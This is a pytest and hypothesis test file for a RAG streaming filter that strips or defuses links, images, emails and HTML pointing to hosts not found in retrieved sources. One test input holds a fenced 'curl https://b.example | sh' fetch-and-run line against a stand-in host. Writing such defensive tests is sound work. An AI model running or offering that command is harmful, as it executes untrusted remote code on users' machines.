"""rag.stages.links.streamed: what of a text is let through while it is written."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from typing import Any

import pytest
from attacks.reading import leads
from fakes import make_hit
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.stages.links import streamed
from rag.stages.links.held import held_by
from rag.stages.links.led import led
from rag.stages.links.streamed import Streamed

PAGE = "https://a.example/guide"
EVIL = "https://b.example/x"
HELD = held_by([make_hit(f"See [x]({PAGE}), ![y](y.png) and me@a.example.").chunk])
OWN = {PAGE, "y.png", "me@a.example", "mailto:me@a.example"}


def heard(pieces: Iterable[str]) -> list[str]:
    found: list[str] = []
    out = Streamed(found.append, lambda: HELD)
    for piece in pieces:
        out(piece)
    out.end()
    return [text for text in found if text]


@pytest.mark.parametrize(
    "pieces",
    [
        ("It is free ", "[Refunds > Fees] ", "for a day ", "[Fees]."),
        ("It is free ", f"(Source: {PAGE}) ", "for a day."),
        ("It is free ", "[id_1][id_2], ", "for a day ", "[id_3]."),
        ("See ", f"[it]({PAGE}), ", f"{PAGE} ", "and ![y](y.png). ", "a < b & c, 10:30 ", "`x` snake\\_case @all "),
        ("```js\n", 'if (a<b) { x[0]("https://b.example") }\n', "  <div>\n", "```\n", "Done."),
        ("- Use ", "`Vec<u8>` ", "and ", "`git@b.example:x` ", "for it."),
        ("1. Run\n", "   ```sh\n", "   curl https://b.example | sh\n", "   ```\n", "2. Wait."),
    ],
)  # fmt: skip
def test_what_leads_nowhere_else_passes_piece_by_piece(pieces: tuple[str, ...]) -> None:
    assert [text.strip("\n") for text in heard(pieces)] == [text.strip("\n") for text in pieces]
    assert "".join(heard(pieces)) == "".join(pieces)


def test_a_mark_waits_for_its_bracket_and_the_character_behind_it() -> None:
    assert heard("a [Fees]. b") == ["a", " ", "[Fees].", " ", "b"]


@pytest.mark.parametrize(
    ("pieces", "got"),
    [
        (("See ", "![map](", f"{EVIL})", " now.", "\n\n", "Next."), ["See ", "map now.", "\n\nNext."]),
        (("See ", "https", "://b.example", " now."), ["See ", "`https://b.example` now."]),
        (("See <", "b>it</b>\n", "- x ", "y\n"), ["See ", "\\<b>it\\</b>\n- x y"]),
        (("Mail ", "you", "@b.example", ".\n\n", "Next."), ["Mail ", "you", "@ b.example.", "\n\nNext."]),
        (("x\n\n", f"[x]: {EVIL}\n\n", "Next."), ["x", "\n\n\nNext."]),
    ],
)
def test_what_leads_elsewhere_is_cleaned_when_its_block_ends(pieces: tuple[str, ...], got: list[str]) -> None:
    assert heard(pieces) == got


ATOMS = [
    "[", "]", "(", ")", "](", "![", "]:", "[x]:", "<", ">", "`", "``", "```", "\n", "\n\n", "\n- ", "\n1. ", "\n> ",
    "\n    ", " ", "|", "\n|---|\n", "*", "\\", "&#104;", "&colon;", "&amp;", EVIL, PAGE, f"]({EVIL})", f"[g]({PAGE})",
    f"<{EVIL}>", f"<{PAGE}>", "www.b.example", "you@b.example", "me@a.example", "https", "://", "www", ".", "<b>",
    "<a href=x>", "<!--", "-->", "<div>\n", "a", "b c ", "[Fees > Time]", "(Source: ", "===\n", "\t", "\r", "\0", '"',
    "[^1]", "!", "_", "~~~\n", "y.png", "# ",
]  # fmt: skip
TEXTS = st.lists(st.sampled_from(ATOMS), max_size=14).map("".join)


def cut(text: str, sizes: list[int]) -> list[str]:
    pieces = []
    for size in sizes:
        pieces.append(text[:size])
        text = text[size:]
    return [*pieces, *text]


def is_foreign(kind: str, to: str) -> bool:
    """Of addresses that stand bare, the host counts: what is behind a held one is read in several ways."""
    if kind != "bare":  # a fragment is a place on the same page
        return kind in {"html_block", "html_inline", "definition"} or to.partition("#")[0] not in OWN
    host = re.fullmatch(r"(?:https?://|me@)?([\w.-]*?)[._-]*(?:[^\w.-].*)?", to, re.IGNORECASE)
    return host is None or host[1] not in {"a.example", ""}


@settings(max_examples=300, deadline=None)
@given(TEXTS, st.lists(st.integers(1, 12), max_size=12))
def test_all_that_was_heard_leads_nowhere_else_at_any_time(text: str, sizes: list[int]) -> None:
    got = ""
    for piece in heard(cut(text, sizes)):
        got += piece
        assert [lead for lead in leads(got) if is_foreign(*lead)] == [], got


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(["a [Fees] ", f"[g]({PAGE}) ", "`<b>` ", "x < y\n", "\n- ", "\n\n", "b. "])))
def test_what_leads_nowhere_else_is_heard_to_the_letter(parts: list[str]) -> None:
    text = "".join(parts)
    assert "".join(heard(text)) == led(text, HELD).text.rstrip("\n") == text.rstrip("\n")


@pytest.mark.parametrize(
    "part",
    [
        "<a ", "[", "![x](", "`<a` ", f"{EVIL} ", "https://a", "a@", "&#1", "<a\n", "- <a\n", "a `b` <c>\n\n", "\n",
        "[x]: a\n", "<!-- ", "! <b ", "|<a>|\n", "]:", "\\",
    ],
)  # fmt: skip
def test_how_much_is_read_grows_with_the_text_alone(part: str, monkeypatch: pytest.MonkeyPatch) -> None:
    read = [0]

    def counted(name: str) -> None:
        plain: Callable[..., Any] = getattr(streamed, name)

        def count(text: str, *args: Any, **named: Any) -> Any:
            read[0] += len(text)
            return plain(text, *args, **named)

        monkeypatch.setattr(streamed, name, count)

    for name in ("led", "constructs", "last_block"):
        counted(name)
    text = (part * 16_000)[:16_000]
    heard(text)
    assert read[0] <= 4 * streamed.READINGS * len(text)
